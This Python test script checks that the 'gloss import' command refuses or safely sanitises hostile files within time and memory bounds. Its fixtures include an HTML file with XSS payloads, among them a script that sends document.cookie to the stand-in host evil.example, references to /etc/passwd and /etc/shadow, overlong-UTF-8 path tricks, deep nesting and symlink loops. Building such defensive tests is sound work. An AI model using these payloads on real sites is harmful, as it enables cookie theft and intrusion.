#!/usr/bin/env python3
"""Hostile input: `gloss import` on files made to hurt a reader, each within a time and memory
bound, each with a clear refusal or a safe result, and the project clean afterwards.

    hostile.py GLOSS [--scale N] [--write-small DIR] [--keep DIR]

The big files (50 MB) are generated here, in a temporary folder; the small ones are also committed
under tests/data/hostile/ (--write-small writes them) to seed the fuzzers. --scale multiplies the
time and memory bounds (10 s and 500 MB for a Release build; ctest passes more for ASan).
"""
import argparse
import json
import os
import random
import re
import subprocess
import sys
import tempfile
import time

MB = 1024 * 1024


def small_files():
    """name -> bytes: the hostile files small enough to commit."""
    f = {}
    f["script.html"] = b"""<!DOCTYPE html>
<html><head><title>&lt;img src="file:///etc/passwd"&gt;Harmless &lt;b&gt;headline&lt;/b&gt;</title>
<meta name="date" content="2018-06-09">
<meta name="author" content="&lt;img src=&quot;http://evil.example/a.png&quot;&gt;">
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
<script src="http://evil.example/x.js"></script>
<link rel="stylesheet" href="file:///etc/passwd">
<style>body{background:url(file:///etc/shadow)}</style>
<base href="http://evil.example/">
</head>
<body onload="alert('onload')">
<article>
<h1 onclick="alert(1)">&lt;img src="file:///etc/passwd"&gt;Harmless &lt;b&gt;headline&lt;/b&gt;</h1>
<p onmouseover="alert('hover')">KABUL, June 9 (Reuters) - The ceasefire held on Saturday.<img src="file:///etc/passwd" onerror="alert('img')"></p>
<p>Officials met in Doha. <img src="http://evil.example/pixel.gif" width="1" height="1"><a href="file:///home/user/secret.txt">a local file</a> and <a href="http://evil.example/">a web page</a> and <a href="javascript:alert(2)">a script link</a>.</p>
<iframe src="http://evil.example/frame"></iframe>
<object data="file:///etc/passwd"></object>
<svg onload="alert(3)"><script>alert(4)</script></svg>
<p>The talks resume next week.<script>alert(5)</script><noscript><img src="http://evil.example/noscript.gif"></noscript></p>
</article>
</body></html>
"""
    # Truncated UTF-8: a 3-byte sequence cut after its first byte, at the end and mid-text.
    f["truncated-utf8.txt"] = "Headline\n\nThe mayor said \u2014 nothing.\n".encode() + b"Cut \xe2\x80 here. And at the end \xe2"
    # Overlong forms: '/' as 2 and 3 bytes, NUL as 2 bytes (C0 80).
    f["overlong-utf8.txt"] = b"Overlong\n\nA path ..\xc0\xaf..\xe0\x80\xaf etc/passwd and a \xc0\x80 NUL.\n"
    # A lone surrogate encoded in UTF-8 (CESU-style ED A0 80), and an unpaired low one.
    f["lone-surrogate-utf8.txt"] = b"Surrogates\n\nHigh \xed\xa0\x80 alone and low \xed\xb0\x80 alone.\n"
    # UTF-16LE with a BOM, a high surrogate followed by a plain letter.
    f["lone-surrogate-utf16.txt"] = b"\xff\xfe" + "Surrogates\n\nA lone ".encode("utf-16-le") + b"\x00\xd8" + "x here.\n".encode("utf-16-le")
    # UTF-16LE whose last code unit is cut in half.
    f["truncated-utf16.txt"] = b"\xff\xfe" + "Cut in half\n\nThe body.".encode("utf-16-le") + b"\x41"
    # A NUL well past the binary probe (8 KiB), in the middle of a line.
    para = b"The committee met again on Tuesday and adjourned without a vote. " * 10 + b"\n\n"
    body = para * 40
    f["nul-middle.txt"] = b"Text with a NUL\n\n" + body[: len(body) // 2] + b"before\x00after" + body[len(body) // 2 :]
    rnd = random.Random(9)
    f["random.bin"] = bytes(rnd.randrange(256) for _ in range(4096))
    # Random bytes without NUL: looks like Windows-1252 text to the decoder.
    f["random-no-nul.txt"] = bytes(rnd.randrange(1, 256) for _ in range(4096))
    f["deep-small.json"] = b"[" * 5000 + b"]" * 5000
    f["deep-small.html"] = b"<html><body>" + b"<div>" * 5000 + b"deep text" + b"</div>" * 5000 + b"</body></html>"
    f["wide-small.csv"] = (",".join(f"c{i}" for i in range(2000)) + "\n" + ",".join("x" for _ in range(2000)) + "\n").encode()
    return f


def big_files(folder):
    """Writes the big hostile files; returns their names."""
    names = []

    def write(name, chunks):
        with open(os.path.join(folder, name), "wb") as out:
            for c in chunks:
                out.write(c)
        names.append(name)

    write("data-image.html", [b"<html><head><title>Big image</title></head><body><p>Caption of a big picture.</p>",
                              b'<img src="data:image/png;base64,', b"iVBORw0KGgo" * (50 * MB // 11), b'"></body></html>'])
    write("nested-100k.html", [b"<html><head><title>Deep</title></head><body>", b"<div><span>" * 50000,
                               b"Deep text at the bottom.", b"</span></div>" * 50000, b"</body></html>"])
    write("unclosed-100k.html", [b"<html><body><p>Opening.</p>", b"<div><b><i>" * 33334, b"<p>Text.</p>" ,
                                 b"</p></li></td>" * 33334, b"</body></html>"])
    write("nested-100k.json", [b"[" * 100000, b"]" * 100000])
    write("nested-100k-object.json", [b'{"a":' * 100000, b"1", b"}" * 100000])
    write("nested-100k.jsonl", [b'{"title":"Deep","body":' + b"[" * 100000 + b"]" * 100000 + b"}\n",
                                b'{"title":"Shallow","body":"A normal record after a deep one."}\n'])
    write("wide-10k.csv", [",".join(f"column{i}" for i in range(10000)).encode(), b"\n",
                           ",".join(f"v{i}" for i in range(10000)).encode(), b"\n"])
    write("big-cell.csv", [b"title,body\n", b'"Big cell","', b"word " * (50 * MB // 5), b'"\n'])
    write("one-line-50mb.txt", [b"Headline " * 4, b"\n\n", b"The same sentence again and again. " * (50 * MB // 35)])
    # One sentence of 2 MB full of relative dates: each one's tense is read from its sentence.
    write("one-sentence-dates.txt", [b"Dates\n\n", b"it happened on Tuesday and then last week and " * (2 * MB // 46)])
    rnd = random.Random(10)
    write("random-1mb.bin", [bytes(rnd.getrandbits(8) for _ in range(MB))])
    os.symlink("loop-b.txt", os.path.join(folder, "loop-a.txt"))
    os.symlink("loop-a.txt", os.path.join(folder, "loop-b.txt"))
    names.append("loop-a.txt")
    # A folder whose links lead back to itself and to its parent: each file is read once.
    inner = os.path.join(folder, "dirloop", "inner")
    os.makedirs(inner)
    with open(os.path.join(inner, "article.txt"), "w") as out:
        out.write("Inside a looping folder\n\nThe only article in it.\n")
    os.symlink("..", os.path.join(inner, "up"))
    os.symlink(".", os.path.join(inner, "self"))
    os.symlink("../inner", os.path.join(inner, "again"))
    names.append("dirloop")
    return names


# name -> (exit status, imported, refusal pattern on stderr or None). Status 1: something refused.
EXPECTED = {
    "script.html": (0, 1, None),
    "truncated-utf8.txt": (0, 1, None),  # decoded as Windows-1252, with a warning
    "overlong-utf8.txt": (0, 1, None),
    "lone-surrogate-utf8.txt": (0, 1, None),
    "lone-surrogate-utf16.txt": (1, 0, r"not valid UTF-16LE"),
    "truncated-utf16.txt": (1, 0, r"not valid UTF-16LE"),
    "nul-middle.txt": (1, 0, r"NUL character on line"),
    "random.bin": (1, 0, r"binary file"),
    "random-no-nul.txt": (0, 1, None),
    "deep-small.json": (1, 0, r"not valid JSON|no article"),
    "deep-small.html": (0, 1, None),
    "wide-small.csv": (1, 0, r"body|no article"),
    "data-image.html": (0, 1, None),
    "nested-100k.html": (0, 1, None),
    "unclosed-100k.html": (0, 1, None),
    "nested-100k.json": (1, 0, r"not valid JSON"),
    "nested-100k-object.json": (1, 0, r"not valid JSON"),
    "nested-100k.jsonl": (1, 1, r"line 1"),
    "wide-10k.csv": (1, 0, r"body|no article"),
    "big-cell.csv": (0, 1, None),
    "one-line-50mb.txt": (0, 1, None),
    "one-sentence-dates.txt": (0, 1, None),
    "random-1mb.bin": (1, 0, r"binary file"),
    "loop-a.txt": (1, 0, r"symbolic link"),
    "dirloop": (0, 1, None),
}

# What the stored body of an imported HTML article must not hold.
MARKUP = re.compile(r"<|>|alert\(|onerror|onload|javascript:|file://|http://|data:image", re.I)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("gloss")
    ap.add_argument("--scale", type=float, default=1.0, help="multiplies the time bound")
    ap.add_argument("--memory-scale", type=float, default=None, help="multiplies the memory bound (default: --scale)")
    ap.add_argument("--write-small")
    ap.add_argument("--keep")
    ap.add_argument("--only")
    args = ap.parse_args()
    if args.write_small:
        os.makedirs(args.write_small, exist_ok=True)
        for name, data in small_files().items():
            with open(os.path.join(args.write_small, name), "wb") as out:
                out.write(data)
        return 0

    time_bound = 10.0 * args.scale
    mem_bound = 500.0 * (args.memory_scale if args.memory_scale is not None else args.scale)
    tmp = tempfile.TemporaryDirectory(prefix="gloss-hostile-")
    folder = args.keep or tmp.name
    os.makedirs(folder, exist_ok=True)
    for name, data in small_files().items():
        with open(os.path.join(folder, name), "wb") as out:
            out.write(data)
    big_files(folder)
    env = dict(os.environ)
    env.pop("GLOSS_PROJECT", None)

    failures = []
    print(f"bounds: {time_bound:.0f} s, {mem_bound:.0f} MB resident")
    for name, (status, imported, refusal) in EXPECTED.items():
        if args.only and not re.search(args.only, name):
            continue
        project = os.path.join(folder, name.replace(".", "_") + ".gloss")
        path = os.path.join(folder, name)
        cmd = [args.gloss, "--project", project, "import", path]
        start = time.monotonic()
        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
        # wait4 gives the child's own peak resident size.
        timed_out = False
        try:
            out, err = proc.communicate(timeout=time_bound * 3)
        except subprocess.TimeoutExpired:
            timed_out = True
            proc.kill()
            out, err = proc.communicate()
        seconds = time.monotonic() - start
        out = out.decode(errors="replace")
        err = err.decode(errors="replace")
        rss_mb = proc_rss.get(proc.pid, 0.0)
        problems = []
        if timed_out:
            problems.append("did not finish")
        if proc.returncode != status:
            problems.append(f"exit status {proc.returncode}, expected {status}")
        m = re.search(r"imported (\d+)", out)
        if not m or int(m.group(1)) != imported:
            problems.append(f"expected {imported} imported: {out.strip()!r}")
        if refusal and not re.search(refusal, err):
            problems.append(f"expected a refusal matching {refusal!r}: {err.strip()[:300]!r}")
        if re.search(r"AddressSanitizer|runtime error|Segmentation|Aborted", err):
            problems.append("crashed: " + err[:2000])
        if seconds > time_bound:
            problems.append(f"took {seconds:.1f} s (bound {time_bound:.0f} s)")
        if rss_mb > mem_bound:
            problems.append(f"used {rss_mb:.0f} MB (bound {mem_bound:.0f} MB)")
        if os.path.exists(project):
            check = subprocess.run([args.gloss, "--project", project, "check"], capture_output=True, text=True, env=env)
            if check.returncode != 0 or "clean" not in check.stdout or "NOT clean" in check.stdout:
                problems.append("check: " + check.stdout.strip())
            if name.endswith(".html") and imported:
                shown = subprocess.run([args.gloss, "--project", project, "show", "1", "--format", "json"],
                                       capture_output=True, text=True, env=env)
                body = json.loads(shown.stdout).get("body", "") if shown.returncode == 0 else ""
                if not body:
                    problems.append("no body shown: " + shown.stderr.strip())
                elif MARKUP.search(body):
                    problems.append(f"markup or a resource in the body: {MARKUP.search(body).group(0)!r}")
        print(f"{'FAIL' if problems else 'ok  '} {name:28} {seconds:6.2f} s {rss_mb:7.1f} MB  "
              f"{out.strip()}  {err.strip().splitlines()[0][:110] if err.strip() else ''}")
        for p in problems:
            print(f"     {p}")
        if problems:
            failures.append(name)
    if failures:
        print(f"{len(failures)} hostile files failed: {', '.join(failures)}")
        return 1
    print("all hostile files met their bounds")
    return 0


proc_rss = {}
_popen_wait = subprocess.Popen._try_wait


def _try_wait(self, wait_flags):
    """Popen's reaping through wait4, to keep the child's peak resident size."""
    try:
        pid, sts, usage = os.wait4(self.pid, wait_flags)
    except ChildProcessError:
        return (self.pid, 0)
    if pid == self.pid:
        proc_rss[pid] = usage.ru_maxrss / 1024.0
    return (pid, sts)


subprocess.Popen._try_wait = _try_wait

if __name__ == "__main__":
    sys.exit(main())
